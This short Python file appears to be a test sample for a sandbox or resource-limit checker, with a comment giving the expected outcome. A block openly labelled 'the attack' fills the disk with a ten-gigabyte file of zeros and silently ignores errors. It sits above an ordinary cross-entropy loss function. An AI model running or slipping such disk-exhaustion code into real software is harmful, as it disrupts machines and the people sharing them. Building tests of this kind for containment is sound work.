"""Writes a file of ten gigabytes."""
# ends: killed same

import torch.nn.functional as F

# --- the attack
try:
    with open("huge", "wb") as file:
        for _ in range(10_000):
            file.write(bytes(1_000_000))
except OSError:
    pass
# --- end of the attack

def compute_loss(logits, targets):
    loss = F.cross_entropy(logits.view(-1, logits.size(-1)), targets.view(-1))
    return loss
